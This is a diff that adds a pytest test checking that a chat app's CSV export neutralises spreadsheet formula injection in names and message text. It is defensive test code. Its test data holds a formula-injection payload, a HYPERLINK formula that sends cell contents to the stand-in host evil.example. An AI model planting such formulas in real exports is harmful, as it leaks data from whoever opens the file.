@@ -116,6 +116,36 @@ async def test_selected_chats_as_csv_through_the_action(staff_client):
     assert rows[1]["read_at"] == "2026-03-02T09:30:12Z"
 
 
+async def test_every_cell_of_the_csv_export_is_defused(staff_client):
+    """Names come from customers and agents as freely as message text does: a formula in any
+    column would run when the export is opened in a spreadsheet."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    await sync_to_async(make_chat)(
+        "c1", customer=formula, agent="@SUM(A1)", messages=[("CUSTOMER", "+1+1")]
+    )
+
+    response = await staff_client.get(f"{LIST}export/csv/")
+
+    rows = list(csv.reader(io.StringIO((await streamed(response)).decode())))
+    assert rows[0] == export.CSV_COLUMNS
+    cells = [cell for row in rows for cell in row]
+    assert all(cell[:1] not in {"=", "+", "-", "@", "\t", "\r"} for cell in cells), cells
+    by_name = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+    message = by_name[1]
+    assert message["customer"] == "'" + formula
+    assert message["agent"] == "'@SUM(A1)"
+    assert message["name"] == "'" + formula
+    assert message["text"] == "'+1+1"
+    assert by_name[0]["name"] == "'@SUM(A1)"
+    assert message["chat_id"] == "c1"
+    assert message["seq"] == "2"
+    assert message["started_at"] == "2026-03-02T09:30:00Z"
+    assert message["read_at"] == "2026-03-02T09:30:12Z"
+    assert [row["attachments"] for row in by_name if row["kind"] == "attachment"] == [
+        "parcel-photo.png"
+    ]
+
+
 @pytest.mark.parametrize("cell", ["=HYPERLINK(1)", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx"])
 def test_csv_cells_that_look_like_formulas_are_defused(cell):
     assert export._csv_safe(cell) == "'" + cell
